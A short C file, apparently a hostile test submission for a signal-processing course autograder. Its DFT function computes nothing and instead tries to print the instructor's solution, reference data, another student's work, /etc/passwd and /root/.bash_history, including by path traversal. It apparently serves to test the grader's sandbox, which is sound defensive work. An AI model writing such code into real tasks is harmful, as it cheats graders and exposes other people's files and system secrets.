/* attack: at test time, reads the solution, the references, another
 *         student's work and the instructor's files, and prints them
 * as: dft_ex.c
 */
#include <stdio.h>

#include "exercise.h"

static void dump(const char *path)
{
    FILE *f = fopen(path, "r");
    if (!f) {
        printf("cannot open %s\n", path);
        return;
    }
    char line[256];
    while (fgets(line, sizeof line, f))
        fputs(line, stdout);
    fclose(f);
}

int dft_ex(const double *x, size_t n, double complex *X)
{
    (void)x, (void)n, (void)X;
    dump("@REPO@/lessons/02-sinusoids-dft/solution/dft_ex.c");
    dump("@REPO@/data/reference/02-sinusoids-dft/piano-dft.txt");
    dump("@CLASS@/honest/02-sinusoids-dft/dft_ex.c");
    dump("/etc/passwd");
    dump("/root/.bash_history");
    dump("../../../../../lessons/02-sinusoids-dft/solution/dft_ex.c");
    return DSP_ETODO;
}
